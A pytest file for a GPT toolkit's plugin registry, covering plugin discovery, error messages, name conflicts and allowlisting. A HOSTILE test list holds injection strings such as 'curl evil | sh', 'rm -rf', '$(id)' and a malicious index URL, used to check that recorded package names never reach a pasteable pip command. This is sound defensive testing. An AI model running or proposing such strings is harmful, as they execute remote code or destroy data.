"""Plugins by name: where they come from, and that a broken one affects only those who use it."""

from __future__ import annotations

import importlib
import sys
from pathlib import Path
from typing import Literal

import pytest
from pydantic import Field

from gptkit.errors import GptkitWarning, PluginError
from gptkit.experiment.load import experiment_from_dict
from gptkit.plugins import PluginOptions, registry
from gptkit.plugins.registry import PluginOption, options_of
from gptkit.runs import find_run
from tests.support import Command, Install, write_record
from tests.support.third_party import TOKENIZER


def plugin_error(family: str, name: str) -> str:
    with pytest.raises(PluginError) as caught:
        registry.load(family, name)
    assert caught.value.exit_code == 3
    assert str(caught.value).count("\n") <= 2
    return str(caught.value)


def test_the_built_in_plugins_come_through_entry_points() -> None:
    assert registry.names(registry.TOKENIZERS) == ["bigram", "bpe", "byte", "char", "hf"]
    assert {"sinusoidal", "learned", "rope", "alibi", "none"} <= set(registry.names(registry.POSITIONS))
    assert {"shakespeare", "python-docs", "text", "markov"} <= set(registry.names(registry.DATASETS))
    assert "tensorboard" in registry.names(registry.TRACKERS)
    for family in registry.KINDS:
        for name in registry.names(family):
            assert registry.find(family, name).distribution == "gptkit"
            assert registry.is_of(family, registry.load(family, name))


def test_a_plugin_of_another_distribution_is_found_with_its_package_and_loads(install: Install) -> None:
    install("fancy", "[gptkit.tokenizers]\nupper = fancy_code:UpperTokenizer\n", TOKENIZER)
    assert "upper" in registry.names(registry.TOKENIZERS)
    assert registry.find(registry.TOKENIZERS, "upper").to_json() == {
        "family": "gptkit.tokenizers",
        "name": "upper",
        "distribution": "fancy",
        "version": "1.2",
    }
    assert "fancy_code" not in sys.modules  # neither listing nor finding imports it
    assert registry.load(registry.TOKENIZERS, "upper").__name__ == "UpperTokenizer"


def test_only_the_plugin_that_is_named_is_imported(install: Install) -> None:
    install("fancy", "[gptkit.tokenizers]\nupper = fancy_code:UpperTokenizer\n", TOKENIZER)
    experiment_from_dict({"tokenizer": "char"})
    assert "fancy_code" not in sys.modules
    assert experiment_from_dict({"tokenizer": "upper"}).tokenizer.options == {"shout": False}
    assert "fancy_code" in sys.modules


@pytest.mark.parametrize(
    ("module", "reason"),
    [
        ("raise RuntimeError('no licence\\nfound')", "RuntimeError: no licence"),
        ("import sys; sys.exit('give me a terminal')", "SystemExit: give me a terminal"),
        ("raise SystemExit", "SystemExit: (no message)"),
        ("import a_module_that_is_not_here", "ModuleNotFoundError: No module named"),
        ("def (", "SyntaxError"),
        ("", "AttributeError: module 'broken_code' has no attribute 'Thing'"),
    ],
    ids=["raises", "exits", "exits silently", "lacks a module", "is not Python", "lacks the class"],
)
def test_a_plugin_that_does_not_load_harms_only_who_names_it(
    module: str, reason: str, install: Install
) -> None:
    install("broken", "[gptkit.tokenizers]\nbroken = broken_code:Thing\n", module)
    assert "broken" in registry.names(registry.TOKENIZERS)
    assert registry.load(registry.TOKENIZERS, "char").__name__ == "CharTokenizer"
    assert registry.find(registry.TOKENIZERS, "broken").distribution == "broken"
    message = plugin_error(registry.TOKENIZERS, "broken")
    assert message.startswith("tokenizer 'broken' (broken_code:Thing, from broken) does not load: ")
    assert reason in message


def test_a_malformed_entry_point_harms_only_who_names_it(install: Install) -> None:
    install("broken", "[gptkit.tokenizers]\nbroken = ???\n")
    assert "does not load" in plugin_error(registry.TOKENIZERS, "broken")
    registry.load(registry.TOKENIZERS, "char")


def test_a_name_that_two_distributions_claim_is_an_error_naming_both(install: Install) -> None:
    install("one", "[gptkit.tokenizers]\nupper = one_code:UpperTokenizer\n", TOKENIZER)
    install("two", "[gptkit.tokenizers]\nupper = two_code:UpperTokenizer\n", TOKENIZER, under="other")
    message = plugin_error(registry.TOKENIZERS, "upper")
    assert message == "tokenizer 'upper' is claimed by one and two; uninstall one of them."
    assert not {"one_code", "two_code"} & set(sys.modules)
    registry.load(registry.TOKENIZERS, "char")  # others are as they were


def test_a_built_in_name_cannot_be_taken_over_silently(install: Install) -> None:
    install("taker", "[gptkit.tokenizers]\nchar = taker_code:UpperTokenizer\n", TOKENIZER)
    assert "'char' is claimed by gptkit and taker" in plugin_error(registry.TOKENIZERS, "char")
    registry.load(registry.TOKENIZERS, "byte")


def test_a_distribution_found_twice_counts_once(install: Install) -> None:
    entries = "[gptkit.tokenizers]\nupper = fancy_code:UpperTokenizer\n"
    install("fancy", entries, TOKENIZER)
    install("fancy", entries, TOKENIZER, under="again")
    assert registry.load(registry.TOKENIZERS, "upper").__name__ == "UpperTokenizer"


@pytest.mark.parametrize("version", ["2", "None", "'1'"])
def test_a_plugin_of_another_api_version_is_refused_with_both_versions(
    version: str, install: Install
) -> None:
    module = f"class Old:\n    api_version = {version}\n"
    install("old", "[gptkit.positions]\nold = old_code:Old\n", module)
    message = plugin_error(registry.POSITIONS, "old")
    assert "was written for plugin API" in message
    assert message.endswith("this gptkit has 1. Install a version of old that matches.")


def test_an_object_that_is_not_a_plugin_is_refused(install: Install) -> None:
    install("odd", "[gptkit.datasets]\nodd = odd_code:thing\n", "thing = 5\n")
    message = plugin_error(registry.DATASETS, "odd")
    assert message.endswith("is not a subclass of gptkit.plugins.Dataset. Report it to its author.")


def test_only_the_distributions_that_are_allowed_are_there(
    install: Install, monkeypatch: pytest.MonkeyPatch
) -> None:
    install("Fancy.Words", "[gptkit.tokenizers]\nupper = Fancy.Words_code:UpperTokenizer\n")
    install("taker", "[gptkit.tokenizers]\nchar = taker_code:UpperTokenizer\n")
    monkeypatch.setenv("GPTKIT_PLUGINS", "")
    assert "upper" not in registry.names(registry.TOKENIZERS)
    assert plugin_error(registry.TOKENIZERS, "upper") == (
        "tokenizer 'upper' comes from Fancy.Words, which GPTKIT_PLUGINS does not allow here. "
        "Add Fancy.Words to that list of distributions, or unset it."
    )
    # What is not allowed does not even get in the way of a name
    assert registry.find(registry.TOKENIZERS, "char").distribution == "gptkit"
    monkeypatch.setenv("GPTKIT_PLUGINS", "numpy, fancy-words")
    assert "upper" in registry.names(registry.TOKENIZERS)
    monkeypatch.delenv("GPTKIT_PLUGINS")
    assert "claimed by" in plugin_error(registry.TOKENIZERS, "char")


def test_a_listed_distribution_that_is_not_installed_is_warned_of_once(
    install: Install, monkeypatch: pytest.MonkeyPatch
) -> None:
    install("fancy", "[gptkit.tokenizers]\nupper = fancy_code:UpperTokenizer\n")
    monkeypatch.setenv("GPTKIT_PLUGINS", "fancy ???,no-such-package")
    with pytest.warns(GptkitWarning, match="GPTKIT_PLUGINS lists") as caught:
        known = registry.names(registry.TOKENIZERS) + registry.names(registry.DATASETS)
    assert {"upper", "char", "markov"} <= set(known)
    assert [str(warning.message).split()[2] for warning in caught] == ["'???',", "'no-such-package',"]


def test_the_command_prints_a_warning_of_gptkit_as_one_line(
    run_process: Command, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GPTKIT_PLUGINS", "gptkit-wrd")
    done = run_process("datasets", "list")
    assert done.err == (
        "gptkit: warning: GPTKIT_PLUGINS lists 'gptkit-wrd', but no distribution of that name is installed.\n"
    )
    assert done.code == 0


def test_a_module_that_is_missing_is_answered_with_the_extra_that_brings_it(install: Install) -> None:
    extras = "Provides-Extra: more\nRequires-Dist: numpy\nRequires-Dist: absent_thing>=2; extra == 'more'\n"
    imports = "import absent_thing\n"
    install("eager", "[gptkit.tokenizers]\neager = eager_code:UpperTokenizer\n", imports, metadata=extras)
    assert plugin_error(registry.TOKENIZERS, "eager").endswith(": pip install 'eager[more]'")
    lazy = TOKENIZER.replace("    vocab_size", "    needs = ('absent_thing',)\n    vocab_size")
    install("lazy", "[gptkit.tokenizers]\nlazy = lazy_code:UpperTokenizer\n", lazy, metadata=extras)
    assert plugin_error(registry.TOKENIZERS, "lazy") == (
        "tokenizer 'lazy' needs the package absent_thing, which is not installed: pip install 'lazy[more]'"
    )


@pytest.mark.parametrize(
    ("family", "name", "package", "extra"),
    [
        (registry.TOKENIZERS, "bpe", "tokenizers", "bpe"),
        (registry.TOKENIZERS, "hf", "tokenizers", "bpe"),
        (registry.DATASETS, "hf", "datasets", "datasets"),
        (registry.TRACKERS, "tensorboard", "tensorboard", "tensorboard"),
    ],
)
def test_without_its_package_the_message_names_the_extra_of_a_built_in_plugin(
    family: str, name: str, package: str, extra: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, package, None)  # as if it were not installed
    assert plugin_error(family, name).endswith(
        f"{name!r} needs the package {package}, which is not installed: pip install 'gptkit[{extra}]'"
    )


def test_output_of_an_imported_plugin_goes_to_standard_error(
    install: Install, capsys: pytest.CaptureFixture[str]
) -> None:
    install("loud", "[gptkit.tokenizers]\nloud = loud_code:UpperTokenizer\n", f"print('hello')\n{TOKENIZER}")
    registry.load(registry.TOKENIZERS, "loud")
    assert capsys.readouterr() == ("", "hello\n")


@pytest.mark.parametrize(
    ("broken", "message"),
    [
        ("return [1, 2, 3]", "UpperTokenizer.encode should return a numpy array of integers"),
        ("return np.zeros(3)", "not float64 of shape (3,). Report it to its author."),
        ("return np.full(3, 128)", "returned ids from 128 to 128, but its vocab_size is 128"),
        ("return 1 / 0", "tokenizer 'upper' failed: ZeroDivisionError: division by zero"),
        ("import json; return json.loads(text)", "tokenizer 'upper' failed: JSONDecodeError"),
    ],
)
def test_a_fault_of_a_plugin_is_reported_as_the_plugins(
    broken: str, message: str, tiny_experiment: Path, gptkit_command: Command, install: Install
) -> None:
    module = TOKENIZER.replace("return np.frombuffer", f"{broken}\n        return np.frombuffer")
    install("fancy", "[gptkit.tokenizers]\nupper = fancy_code:UpperTokenizer\n", module)
    done = gptkit_command("train", tiny_experiment, "--set", "tokenizer=upper")
    assert done.code == 3, done.err
    assert message in done.err
    assert "Traceback" not in done.err
    assert "defect of gptkit" not in done.err


@pytest.mark.parametrize("name", ["", "rope ", "../rope", "ROPE", "x" * 300])
def test_an_unknown_name_lists_those_installed(name: str) -> None:
    message = plugin_error(registry.POSITIONS, name)
    assert message.startswith(f"no positional encoding is called {name!r}")
    assert "Installed: alibi, learned, none, rope, sinusoidal." in message
    with pytest.raises(PluginError):
        registry.find(registry.POSITIONS, name)


def test_a_run_needs_the_plugin_it_had_and_the_message_names_its_package(
    tiny_experiment: Path,
    gptkit_command: Command,
    install: Install,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    install("fancy", "[gptkit.tokenizers]\nupper = fancy_code:UpperTokenizer\n", TOKENIZER)
    trained = gptkit_command("train", tiny_experiment, "--set", "tokenizer=upper", "--steps", 2, "--quiet")
    assert trained.code == 0, trained.err
    written = gptkit_command("generate", "latest", "--prompt", "rain", "-n", 5)
    assert written.out.startswith("rain")
    monkeypatch.setattr(sys, "path", [place for place in sys.path if not place.endswith("site")])
    importlib.invalidate_caches()
    registry.installed.cache_clear()
    for command in ("generate", "resume"):
        refused = gptkit_command(command, "latest")
        assert refused.code == 3
        assert "no tokenizer is called 'upper'" in refused.err
        assert refused.err.endswith("The run had it from fancy 1.2: pip install fancy==1.2\n")


HOSTILE = [
    ("fancy; rm -rf x", "1.2"),
    ("fancy", "1.2; curl evil | sh"),
    ("fancy", "$(id)"),
    ("fancy", "1.2\n\x1b[2J"),
    ("fancy", "1.2\n"),
    ("fancy", "1!2"),
    ("fancy", "1.2 --pre"),
    ("--index-url=http://evil", "1.2"),
    ("https://evil/x.whl", "1.2"),
    ("f\u0430ncy", "1.2"),
    ("fancy[evil]", "1.2"),
    ("f" * 300, "1.2"),
    ("fancy", "9" * 300),
    ("", ""),
    (None, ["1.2"]),
]


@pytest.mark.slow
def test_a_recorded_package_is_shown_only_if_it_is_well_formed(
    tiny_experiment: Path, gptkit_command: Command
) -> None:
    """It goes to a terminal, and into a command that a person may paste."""
    assert gptkit_command("train", tiny_experiment, "--stop-at", 1, "--quiet").code == 0
    run = find_run("latest")
    record, experiment = run.record(), run.experiment_file.read_text()
    plugin = record["plugins"][0]
    assert plugin["name"] == "char"
    for distribution, version in HOSTILE:
        plugin |= {"name": "char", "distribution": distribution, "version": version}
        run.experiment_file.write_text(experiment)
        write_record(run, record)
        here = registry.find(registry.TOKENIZERS, "char").version
        written = gptkit_command("generate", run.id, "-n", 3)
        assert written.code == 0
        message = f"'char' is of gptkit {here} here, but was of an unknown package in training: "
        assert written.err.startswith(f"gptkit: warning: {message}the model may generate worse text.\n")
        assert "pip" not in written.err
        refused = gptkit_command("resume", run.id, "--require-exact")
        assert f"char of an unknown package -> gptkit {here}" in refused.err
        plugin["name"] = "upper"
        run.experiment_file.write_text(experiment.replace('"char"', '"upper"'))
        write_record(run, record)
        refused = gptkit_command("generate", run.id)
        assert refused.code == 3
        assert refused.err.count("\n") == 1
        assert refused.err.endswith("To use another one, install its package.\n")
    plugin |= {"distribution": "Fancy_thing.2", "version": "1.2rc1.post2.dev3+local.1"}
    write_record(run, record)
    refused = gptkit_command("generate", run.id)
    assert refused.err.endswith(": pip install Fancy_thing.2==1.2rc1.post2.dev3+local.1\n")


@pytest.mark.slow
@pytest.mark.parametrize("plugins", [None, 3, "char", {}, [3], ["x"], [{"name": "char"}], [[]]])
def test_a_run_without_recorded_packages_still_generates(
    plugins: object, tiny_experiment: Path, gptkit_command: Command
) -> None:
    assert gptkit_command("train", tiny_experiment, "--stop-at", 1, "--quiet").code == 0
    run = find_run("latest")
    write_record(run, run.record() | {"plugins": plugins})
    written = gptkit_command("generate", run.id, "-n", 3)
    assert written.code == 0
    assert ("an unrecorded package in training" in written.err) == isinstance(plugins, list)


def test_the_kinds_of_options_are_described_in_words() -> None:
    class Options(PluginOptions):
        count: int = Field(default=3, ge=1, le=1_000_000)
        name: str | None = None
        way: Literal["up", "down"] = Field(default="up", description="Which way.")
        words: list[str] = Field(min_length=1)

    class Plugin:
        pass

    Plugin.Options = Options  # type: ignore[attr-defined]
    assert list(options_of(Plugin)) == [
        PluginOption("count", "integer, >= 1, <= 1,000,000", 3, False, ""),
        PluginOption("name", "string", None, False, ""),
        PluginOption("way", '"up" or "down"', "up", False, "Which way."),
        PluginOption("words", "list of strings", None, True, ""),
    ]
